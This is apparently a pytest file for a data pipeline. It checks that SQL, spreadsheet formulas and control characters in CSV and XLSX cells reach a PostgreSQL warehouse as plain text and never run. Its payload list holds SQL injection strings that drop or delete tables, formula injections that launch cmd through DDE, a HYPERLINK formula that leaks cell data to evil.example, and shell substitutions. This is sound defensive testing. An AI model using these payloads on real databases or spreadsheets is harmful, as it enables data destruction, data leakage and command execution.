"""Text is data: SQL, spreadsheet formulas, quotes, backslashes and control characters in
every text cell of every source go through the production pipeline (`run_standard`) into
a real PostgreSQL warehouse as the same characters, and nothing runs them.

What "stored verbatim" means, given what the pipeline deliberately does to text:

- the readers trim every cell at both ends and remove NUL (`etl.extract.cells`); the
  payloads carry no edge whitespace and no NUL (test_bad_input.py covers NUL), so a
  trimmed or NUL-cleaned payload would be a change this test sees;
- long free text (titles, abstracts, authors, keywords) is stored exactly: tabs, line
  breaks, quotes, backslashes, COPY's `\\N` and `\\.` markers included;
- label columns (categories, stages, country, company name, SIC description...) have
  every whitespace run turned into one space (`etl.transform.vector.collapse_whitespace`);
  nothing else changes; tickers are also upper-cased;
- key and vocabulary columns are not free text: a technology name is stored as its token
  (lower case, whitespace removed, `etl.extract.technologies`), a technology list is split
  into tokens, the PubMed link is rebuilt from the PMID it carries, the industry category
  and place of incorporation are mapped to controlled lists (their `_raw` twin keeps the
  label), the company filing `period` is not published and `file_path` is dropped;
- a rejected row keeps its cells as read (trimmed, NUL removed) in `etl_rejected_row.raw`
  (JSONB).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook
from sqlalchemy import create_engine, inspect, text

from etl.config.settings import load_settings
from etl.extract.cells import clean_text
from etl.extract.columns import DROPPED_HEADERS, RULES
from etl.extract.pubmed_articles import LINK_HEADER, parse_pmid
from etl.extract.raw_files import read_text_frame
from etl.extract.technologies import normalise_technology
from etl.stages.standard import run_standard
from etl.transform.vector import collapse_whitespace
from etl.warehouse.migrate import upgrade
from etl.warehouse.schema import ANALYTICS_SCHEMA, WAREHOUSE_SCHEMA, metadata
from tests.support.sample_files import FILES, sample_copy

PAYLOADS = (
    "'); DROP TABLE warehouse.dim_publication; --",
    "Robert'); DELETE FROM warehouse.dim_company WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    'He said "it\'s \'quoted\'" twice, ""doubled"" too',
    "C:\\path\\to\\file \\N \\. \\\\server\\/share\\",
    "col1\tcol2\t\tcol4",
    "line one\nline two\r\nline three\n\\.\nafter COPY's end-of-data marker",
    "%s %(name)s {0} $1 :param ? ${HOME} $(id) `id`",
    "Zoë 東京 😀 العربية ﬁ Ω ∑ — naïve, café",
)
# Payloads a link can carry in its fragment and keep its PMID (a link is one line).
LINK_PAYLOADS = tuple(p for p in PAYLOADS if "\n" not in p and "\r" not in p)


def exact(value: str) -> str:
    return value


def label(value: str) -> str:
    """What `collapse_whitespace` makes of a label: every whitespace run one space."""
    return " ".join(value.split())


def upper_label(value: str) -> str:
    """A ticker: a label upper-cased one character at a time, as Arrow does (`ﬁ` stays
    `ﬁ`, where Python's str.upper would write `FI`)."""
    return "".join(c.upper() if len(c.upper()) == 1 else c for c in label(value))


# source -> header -> (table, column, what the pipeline does to the text on the way).
PUBLISHED_AS: dict[str, dict[str, tuple[str, str, Callable[[str], str]]]] = {
    "pubmed_articles": {
        "Titre": ("dim_publication", "title", exact),
        "Résumé": ("dim_publication", "abstract", exact),
        "Auteurs": ("dim_publication", "authors", exact),
        "Mots-clés": ("dim_publication", "keywords", exact),
        "Technology Category": ("dim_publication", "technology_category", label),
        "TRL_Category": ("dim_publication", "trl_category", label),
        "TRL_Stage": ("dim_publication", "trl_stage", label),
        "Article Type": ("dim_publication", "article_type", label),
        "Country": ("dim_publication", "country", label),
        "Research Domain": ("dim_publication", "research_domain", label),
    },
    "trl_predictions": {
        "Current_Category": ("fact_trl_prediction", "current_category", label),
        "Predicted_Category": ("fact_trl_prediction", "predicted_category", label),
        "Change_Category": ("fact_trl_prediction", "change_category", label),
        "Current_Stage": ("fact_trl_prediction", "current_stage", label),
        "Predicted_Stage": ("fact_trl_prediction", "predicted_stage", label),
        "Model_Used": ("fact_trl_prediction", "model_used", label),
    },
    "biotech_companies": {
        "entityName": ("dim_company", "entity_name", label),
        "ticker": ("dim_company", "ticker", upper_label),
        "stateOfIncorporation": ("dim_company", "state_of_incorporation_raw", label),
        "sicDescription": ("dim_company", "sic_description_raw", label),
        "industryCategory": ("dim_company", "industry_category_raw", label),
        "dataFreshness": ("fact_financial", "data_freshness", label),
    },
}
# Text columns with no verbatim copy in the warehouse (see the module docstring).
NOT_VERBATIM = {
    ("trl_predictions", "Technology"),
    ("pubmed_articles", "Technologies"),
    ("pubmed_articles", LINK_HEADER),
    ("biotech_companies", "period"),
    ("biotech_companies", "file_path"),
}
# The published tables whose row count the injected text cannot change (the technology
# tables gain the injected technology names).
ROW_COUNT_TABLES = ("dim_publication", "fact_trl_prediction", "dim_company", "fact_financial")


def _text_headers(source: str) -> list[str]:
    return [r.header for r in RULES[source] if r.kind == "text"] + list(
        DROPPED_HEADERS.get(source, ())
    )


def test_every_text_column_is_accounted_for() -> None:
    for source in RULES:
        listed = set(PUBLISHED_AS[source]) | {h for s, h in NOT_VERBATIM if s == source}
        assert listed == set(_text_headers(source)), source


def _group_keys(source: str, frame: pd.DataFrame) -> pd.Series:
    """Rows that must carry the same text: repeats of a natural key stay exact repeats (a
    repeat with other values would be a conflicting duplicate), and every fiscal year of a
    company gets the same text so that its latest attributes carry a payload too."""
    if source == "pubmed_articles":
        return parse_pmid(frame[LINK_HEADER]).astype("string").fillna("no pmid")
    if source == "biotech_companies":
        return frame["cik"].str.strip()
    return pd.Series(range(len(frame)), index=frame.index).astype("string")


def _injected(values: pd.Series, group: pd.Series, payloads: tuple[str, ...]) -> pd.Series:
    """Each group's payload, cycling through `payloads`; cells that clean to null (empty,
    placeholders) stay as they are, as do the rows they belong to."""
    ordinal = pd.Series(pd.factorize(group)[0], index=values.index)
    chosen = ordinal.mod(len(payloads)).map(dict(enumerate(payloads)))
    keep = clean_text(values).isna()
    return values.astype(object).where(keep, chosen)


def _inject(raw: Path, extension: str) -> dict[str, pd.DataFrame]:
    """Payloads into every text column of every source, rewritten as `extension`.

    Free text and labels are replaced whole (a formula must start the cell to be one);
    technology names and links, which are keys, get the payload appended. Returns each
    source's frame as written.
    """
    written = {}
    for source, name in FILES.items():
        path = raw / name
        frame = read_text_frame(path)
        group = _group_keys(source, frame)
        for header in _text_headers(source):
            values = frame[header]
            if header == LINK_HEADER:
                fragment = _injected(values, group, LINK_PAYLOADS)
                frame[header] = values.astype(object).where(
                    clean_text(values).isna(), values.str.strip() + "#" + fragment
                )
            elif (source, header) in NOT_VERBATIM:
                frame[header] = values.astype(object).where(
                    clean_text(values).isna(),
                    values.str.strip() + " " + _injected(values, group, PAYLOADS),
                )
            else:
                frame[header] = _injected(values, group, PAYLOADS)
        path.unlink()
        target = path.with_suffix(f".{extension}")
        if extension == "csv":
            frame.to_csv(target, index=False)
        else:
            _write_xlsx_as_text(frame, target)
        written[source] = frame
    return written


def _write_xlsx_as_text(frame: pd.DataFrame, target: Path) -> None:
    """Every cell a string cell, even one starting with '=': that is what a spreadsheet
    holds when a user types text that looks like a formula (openpyxl would otherwise
    store it as a formula). A carriage return is written as Excel writes it, `_x000D_`:
    a raw one in the XML is read back as a line feed (XML end-of-line handling)."""
    book = Workbook(write_only=False)
    sheet = book.active
    sheet.append(list(frame.columns))
    # A loop over the sample's few thousand rows: openpyxl writes cell by cell anyway.
    for row in frame.itertuples(index=False):
        sheet.append(list(row))
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = cell.value.replace("\r", "_x000D_")
                cell.data_type = "s"
    book.save(target)


def _relations(conn) -> set[tuple[str, str]]:
    inspector = inspect(conn)
    found = set()
    for schema in (WAREHOUSE_SCHEMA, ANALYTICS_SCHEMA, "public"):
        names = inspector.get_table_names(schema) + inspector.get_view_names(schema)
        found |= {(schema, name) for name in names}
    return found


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_sql_and_formulas_in_every_text_cell_are_stored_as_text(
    warehouse, sample_counts, tmp_path: Path, extension: str
) -> None:
    upgrade(warehouse.url)
    engine = create_engine(warehouse.url)
    try:
        with engine.connect() as conn:
            before = _relations(conn)
        assert {(WAREHOUSE_SCHEMA, t.name) for t in metadata.sorted_tables} <= before
        assert any(schema == ANALYTICS_SCHEMA for schema, _ in before)

        raw = sample_copy(tmp_path)
        written = _inject(raw, extension)
        summary = run_standard(load_settings(raw_dir=raw))
        assert summary.status == "completed"

        with engine.connect() as conn:
            # Nothing ran: every table and view is there, and no other appeared.
            assert _relations(conn) == before
            for table in ROW_COUNT_TABLES:
                rows = conn.execute(text(f"SELECT count(*) FROM warehouse.{table}")).scalar()
                assert rows == sample_counts["published"][table], table

            for source, columns in PUBLISHED_AS.items():
                for header, (table, column, stored_as) in columns.items():
                    stored = {
                        value
                        for (value,) in conn.execute(
                            text(
                                f'SELECT DISTINCT "{column}" FROM warehouse.{table} '
                                f'WHERE "{column}" IS NOT NULL'
                            )
                        )
                    }
                    expected = {stored_as(p) for p in PAYLOADS}
                    assert stored == expected, f"{source}.{header} -> {table}.{column}"

            # The key columns: a technology is its token, a link is rebuilt from its PMID.
            technologies = set(
                conn.execute(text("SELECT technology FROM warehouse.dim_technology")).scalars()
            )
            trl_names = written["trl_predictions"]["Technology"].dropna()
            assert set(normalise_technology(trl_names).dropna()) <= technologies
            links = conn.execute(text("SELECT link FROM warehouse.dim_publication")).scalars()
            assert all(
                link.startswith("https://pubmed.ncbi.nlm.nih.gov/") and "#" not in link
                for link in links
            )

            # Rejected rows keep the cells as read, in JSONB.
            rejected = conn.execute(
                text("SELECT source, row_number, raw FROM warehouse.etl_rejected_row")
            ).all()
            assert len(rejected) == sum(sample_counts["rejected"].values())
            checked = 0
            for source, row_number, cells in rejected:
                frame = written[source]
                for header in PUBLISHED_AS[source]:
                    value = frame.at[row_number - 2, header]  # row 2 is the first data row
                    if pd.notna(value) and value in PAYLOADS:
                        assert cells[header] == value, (source, row_number, header)
                        checked += 1
            assert checked >= len(PAYLOADS)
    finally:
        engine.dispose()


def test_label_rule_is_the_transforms() -> None:
    """The expectation `label` above is what the transform's own function does."""
    values = pd.Series(list(PAYLOADS), dtype="string")
    assert collapse_whitespace(values).tolist() == [label(p) for p in PAYLOADS]
